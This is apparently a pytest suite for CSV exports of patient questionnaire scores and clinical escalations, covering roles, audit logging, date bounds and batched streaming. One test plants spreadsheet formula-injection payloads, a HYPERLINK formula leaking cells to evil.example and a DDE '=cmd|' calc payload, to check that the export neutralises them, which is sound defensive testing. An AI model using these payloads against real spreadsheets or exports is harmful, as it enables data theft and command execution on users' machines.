"""CSV exports through the real app on both backends: rows equal the database, RFC 4180
framing, formula injection neutralised, date bounds, roles, audit, and keyset batches."""

from __future__ import annotations

import csv
import io
import tracemalloc
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
from sqlalchemy import insert, select

from bot.services import exports as csv_exports
from bot.services.escalations import raise_escalation
from db.enums import Disposition, EscalationStatus, Role, Severity
from db.models import AuditEvent, Checkin, Escalation, Score
from tests.web.harness import Harness, harness
from tests.web.test_fhir import (
    EXPIRED_PHQ9,
    answer_all,
    bearer,
    patient_with_history,
    with_exports,
)

CSV_TYPE = "text/csv"


@pytest.fixture
async def h(db_url: str, monkeypatch: pytest.MonkeyPatch):  # type: ignore[no-untyped-def]
    with_exports(monkeypatch)
    async with harness(db_url) as hh:
        yield hh


def z(value: datetime | None) -> str:
    return value.astimezone(UTC).isoformat().replace("+00:00", "Z") if value else ""


async def get_csv(h: Harness, path: str, token: str) -> tuple[list[list[str]], bytes]:
    resp = await h.client.get(path, headers=bearer(token))
    assert resp.status == 200, await resp.text()
    assert resp.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert resp.headers["Content-Disposition"].startswith('attachment; filename="')
    assert resp.headers["Content-Disposition"].endswith('.csv"')
    assert resp.headers["Cache-Control"] == "no-store"
    assert resp.headers["X-Content-Type-Options"] == "nosniff"
    raw = await resp.read()
    # RFC 4180: every record, the last one included, ends with CRLF (a line break inside
    # a quoted field is data and stays as written)
    assert raw.endswith(b"\r\n")
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8"), newline="")))
    assert raw.count(b"\r\n") == len(rows)
    return rows, raw


async def audit(h: Harness, action: str) -> list[AuditEvent]:
    async with h.db.read() as s:
        return list(
            (
                await s.scalars(
                    select(AuditEvent).where(AuditEvent.action == action).order_by(AuditEvent.id)
                )
            ).all()
        )


# -- scores.csv ----------------------------------------------------------------------------------


async def test_scores_csv_matches_the_database(h: Harness) -> None:
    p, _checkins = await patient_with_history(h)
    # a PHQ-9 with item 9 positive: a flag (and a hand-over to the C-SSRS screener)
    h.clock.advance(hours=1)
    await answer_all(h, p, "phq9", [0, 0, 0, 0, 0, 0, 0, 0, 1])
    admin = await h.token(Role.ADMIN)
    rows, _raw = await get_csv(h, f"/api/v1/patients/{p.id}/scores.csv", admin)
    assert rows[0] == list(csv_exports.SCORE_COLUMNS)
    assert rows[0] == [
        "checkin_id",
        "flow",
        "flow_version",
        "instrument",
        "total",
        "band",
        "complete",
        "flags",
        "created_at",
    ]
    async with h.db.read() as s:
        db_rows = (
            await s.execute(
                select(Score, Checkin)
                .join(Checkin, Checkin.id == Score.checkin_id)
                .where(Score.patient_id == p.id)
                .order_by(Score.id)
            )
        ).all()
    assert len(db_rows) == 4
    expected = [
        [
            str(score.checkin_id),
            checkin.flow_key,
            str(checkin.flow_version),
            score.instrument,
            str(int(score.total)) if float(score.total).is_integer() else repr(score.total),
            score.band or "",
            "true" if score.complete else "false",
            ";".join(score.flags),
            z(score.created_at),
        ]
        for score, checkin in db_rows
    ]
    assert rows[1:] == expected
    # spelled out, so a formatting change shows up here
    assert [r[3:8] for r in rows[1:]] == [
        ["phq9", "10", "moderate", "true", ""],
        ["gad7", "10", "moderate", "true", ""],
        ["phq9", str(round(sum(EXPIRED_PHQ9) * 9 / 8, 2)), "moderate", "false", ""],
        ["phq9", "1", "minimal", "true", "item9_positive"],
    ]
    assert rows[1][8].endswith("Z") and rows[1][8].startswith("2026-03-02T")

    (event,) = await audit(h, "export.scores_csv")
    assert event.subject_type == "patient"
    assert event.subject_id == str(p.id)
    assert event.details == {"patient_id": p.id}


async def test_scores_csv_roles_and_unknown_patient(h: Harness) -> None:
    p = await h.patient()
    clinician = await h.token(Role.CLINICIAN)
    admin = await h.token(Role.ADMIN)
    resp = await h.client.get(f"/api/v1/patients/{p.id}/scores.csv", headers=bearer(clinician))
    assert resp.status == 403
    assert (await resp.json())["error"]["code"] == "forbidden"
    resp = await h.client.get(f"/api/v1/patients/{p.id}/scores.csv")
    assert resp.status == 401
    resp = await h.client.get("/api/v1/patients/424242/scores.csv", headers=bearer(admin))
    assert resp.status == 404
    assert (await resp.json())["error"]["code"] == "not_found"
    assert await audit(h, "export.scores_csv") == []
    rows, raw = await get_csv(h, f"/api/v1/patients/{p.id}/scores.csv", admin)
    assert rows == [list(csv_exports.SCORE_COLUMNS)]
    assert raw == (",".join(csv_exports.SCORE_COLUMNS) + "\r\n").encode()


# -- escalations.csv -----------------------------------------------------------------------------


async def add_escalation(
    h: Harness, at: datetime, *, patient_id: int | None, reason: str = "phq9_severe", **fields: Any
) -> int:
    async with h.db.write() as s:
        e = raise_escalation(
            session=s,
            severity=Severity.HIGH,
            reason=reason,
            summary="PHQ-9 22 (severe).",
            now=at,
            patient_id=patient_id,
        )
        for name, value in fields.items():
            setattr(e, name, value)
        await s.flush()
        return e.id


def escalation_row(e: Escalation) -> list[str]:
    def text(v: object) -> str:
        s = "" if v is None else str(v)
        return "'" + s if s[:1] in ("=", "+", "-", "@", "\t", "\r") else s

    return [
        str(e.id),
        "" if e.patient_id is None else str(e.patient_id),
        str(e.severity),
        text(e.reason),
        str(e.status),
        z(e.created_at),
        "" if e.claimed_by is None else str(e.claimed_by),
        z(e.claimed_at),
        "" if e.resolved_by is None else str(e.resolved_by),
        z(e.resolved_at),
        "" if e.disposition is None else str(e.disposition),
        text(e.note),
        str(e.page_count),
    ]


async def test_escalations_csv_matches_db_neutralises_formulas_and_bounds_dates(
    h: Harness,
) -> None:
    p = await h.patient()
    admin = await h.token(Role.ADMIN)
    day = datetime(2026, 3, 2, tzinfo=UTC)
    before = await add_escalation(h, day - timedelta(seconds=1), patient_id=p.id)
    first = await add_escalation(h, day, patient_id=p.id)
    middle = await add_escalation(h, day + timedelta(days=1, hours=12), patient_id=None)
    last = await add_escalation(
        h, day + timedelta(days=4) - timedelta(microseconds=1), patient_id=p.id
    )
    after = await add_escalation(h, day + timedelta(days=4), patient_id=p.id)

    # worked through the API: claim and resolve with a hostile note
    hyperlink = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
    resp = await h.client.post(f"/api/v1/escalations/{first}/claim", headers=bearer(admin))
    assert resp.status == 200, await resp.text()
    h.clock.advance(minutes=5)
    resp = await h.client.post(
        f"/api/v1/escalations/{first}/resolve",
        headers=bearer(admin),
        json={"disposition": "reached_patient", "note": hyperlink},
    )
    assert resp.status == 200, await resp.text()
    # every other dangerous first character, and a quote, comma and newline to escape
    async with h.db.write() as s:
        for escalation_id, note in (
            (middle, "+1 555 0100"),
            (last, '-2 then "quoted", and\na newline'),
            (after, "@SUM(A1:A9)"),
            (before, "\tTAB"),
        ):
            row = await s.get(Escalation, escalation_id)
            assert row is not None
            row.note = note
            row.page_count = 2
        row = await s.get(Escalation, middle)
        assert row is not None
        row.reason = "=cmd|' /C calc'!A0"

    url = "/api/v1/exports/escalations.csv?from=2026-03-02&to=2026-03-05"
    rows, raw = await get_csv(h, url, admin)
    assert rows[0] == list(csv_exports.ESCALATION_COLUMNS)
    async with h.db.read() as s:
        by_id = {e.id: e for e in (await s.scalars(select(Escalation))).all()}
    assert [int(r[0]) for r in rows[1:]] == [first, middle, last]
    assert rows[1:] == [escalation_row(by_id[i]) for i in (first, middle, last)]
    resolved = rows[1]
    assert resolved[4] == "resolved"
    assert resolved[10] == str(Disposition.REACHED_PATIENT)
    assert resolved[11] == "'" + hyperlink
    assert resolved[11].startswith("'=HYPERLINK(")
    assert resolved[6] == resolved[8] != ""
    assert resolved[7] == z(h.clock.now() - timedelta(minutes=5))
    assert resolved[9] == z(h.clock.now())
    assert rows[2][1] == ""  # no patient
    assert rows[2][3] == "'=cmd|' /C calc'!A0"
    assert rows[2][11] == "'+1 555 0100"
    assert rows[3][11] == '\'-2 then "quoted", and\na newline'
    assert rows[3][12] == "2"
    assert b'"\'-2 then ""quoted"", and\na newline"' in raw  # quoted, not CRLF-split

    # open-ended bounds
    rows, _ = await get_csv(h, "/api/v1/exports/escalations.csv?from=2026-03-06", admin)
    assert [int(r[0]) for r in rows[1:]] == [after]
    assert rows[1][11] == "'@SUM(A1:A9)"
    rows, _ = await get_csv(h, "/api/v1/exports/escalations.csv?to=2026-03-01", admin)
    assert [int(r[0]) for r in rows[1:]] == [before]
    assert rows[1][11] == "'\tTAB"
    rows, _ = await get_csv(h, "/api/v1/exports/escalations.csv", admin)
    assert [int(r[0]) for r in rows[1:]] == [before, first, middle, last, after]
    rows, _ = await get_csv(
        h, "/api/v1/exports/escalations.csv?from=2026-03-02&to=2026-03-02", admin
    )
    assert [int(r[0]) for r in rows[1:]] == [first]

    events = await audit(h, "export.escalations_csv")
    assert [e.details for e in events] == [
        {"from": "2026-03-02", "to": "2026-03-05"},
        {"from": "2026-03-06", "to": None},
        {"from": None, "to": "2026-03-01"},
        {"from": None, "to": None},
        {"from": "2026-03-02", "to": "2026-03-02"},
    ]
    assert all(e.subject_type == "escalation" and e.actor_id is not None for e in events)
    assert by_id[first].status is EscalationStatus.RESOLVED


@pytest.mark.parametrize(
    ("query", "field"),
    [
        ("from=2026-13-01", "from"),
        ("from=2026-02-30", "from"),
        ("from=20260301", "from"),
        ("to=03/05/2026", "to"),
        ("to=2026-03-05T00:00:00", "to"),
        ("from=2026-03-05&to=2026-03-04", "to"),
    ],
)
async def test_escalations_csv_rejects_bad_dates_naming_the_field(
    h: Harness, query: str, field: str
) -> None:
    admin = await h.token(Role.ADMIN)
    resp = await h.client.get(f"/api/v1/exports/escalations.csv?{query}", headers=bearer(admin))
    assert resp.status == 422
    error = (await resp.json())["error"]
    assert error["code"] == "invalid"
    assert error["details"][0]["field"] == field
    assert error["message"].startswith(f"{field}: ")
    assert await audit(h, "export.escalations_csv") == []


async def test_escalations_csv_is_admin_only(h: Harness) -> None:
    clinician = await h.token(Role.CLINICIAN)
    resp = await h.client.get("/api/v1/exports/escalations.csv", headers=bearer(clinician))
    assert resp.status == 403
    assert (await resp.json())["error"]["code"] == "forbidden"
    assert (await h.client.get("/api/v1/exports/escalations.csv")).status == 401
    assert await audit(h, "export.escalations_csv") == []


# -- streaming -----------------------------------------------------------------------------------


async def test_rows_come_in_keyset_batches(h: Harness, monkeypatch: pytest.MonkeyPatch) -> None:
    p = await h.patient()
    ids = [
        await add_escalation(h, h.clock.now() + timedelta(minutes=i), patient_id=p.id)
        for i in range(10)
    ]
    batches = [
        b
        async for b in csv_exports.escalation_rows(
            h.db, created_from=None, created_before=None, size=3
        )
    ]
    assert [len(b) for b in batches] == [3, 3, 3, 1]
    assert [row[0] for b in batches for row in b] == ids
    monkeypatch.setattr(csv_exports, "BATCH_SIZE", 4)
    rows, _ = await get_csv(h, "/api/v1/exports/escalations.csv", await h.token(Role.ADMIN))
    assert [int(r[0]) for r in rows[1:]] == ids


@pytest.mark.slow
async def test_many_escalations_stream_in_flat_memory(h: Harness) -> None:
    total = 30_000
    start = datetime(2026, 1, 1, tzinfo=UTC)
    async with h.db.write() as s:
        for chunk in range(0, total, 10_000):
            await s.execute(
                insert(Escalation),
                [
                    {
                        "patient_id": None,
                        "severity": Severity.LOW,
                        "severity_rank": 3,
                        "reason": "patient_note",
                        "summary": "x" * 200,
                        "status": EscalationStatus.OPEN,
                        "note": "n" * 200,
                        "page_count": 0,
                        "created_at": start + timedelta(seconds=i),
                    }
                    for i in range(chunk, chunk + 10_000)
                ],
            )
    admin = await h.token(Role.ADMIN)
    tracemalloc.start()
    try:
        resp = await h.client.get("/api/v1/exports/escalations.csv", headers=bearer(admin))
        assert resp.status == 200
        lines = 0
        size = 0
        async for piece in resp.content.iter_chunked(64 * 1024):
            lines += piece.count(b"\n")  # a CRLF may straddle two pieces; LF never does
            size += len(piece)
        _current, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert lines == total + 1
    assert size > 6_000_000  # the body is over 6 MB...
    assert peak < 4_000_000, peak  # ...but the server never held more than a few batches


def test_setup_is_idempotent_and_documented() -> None:
    from aiohttp import web

    from bot.web.api import exports, openapi

    app = web.Application()
    exports.setup(app)
    exports.setup(app)  # once from bot.web.api.setup, once from a test's extra_setup
    paths = sorted(
        (route.method, route.resource.canonical)
        for route in app.router.routes()
        if route.method != "HEAD" and route.resource is not None
    )
    assert paths == [
        ("GET", "/api/v1/exports/escalations.csv"),
        ("GET", "/api/v1/fhir/Questionnaire/{key}"),
        ("GET", "/api/v1/patients/{id}/fhir"),
        ("GET", "/api/v1/patients/{id}/scores.csv"),
    ]
    assert set(exports.PATHS) == {path for _method, path in paths}
    assert all(openapi.EXTRA_PATHS[path] == ops for path, ops in exports.PATHS.items())
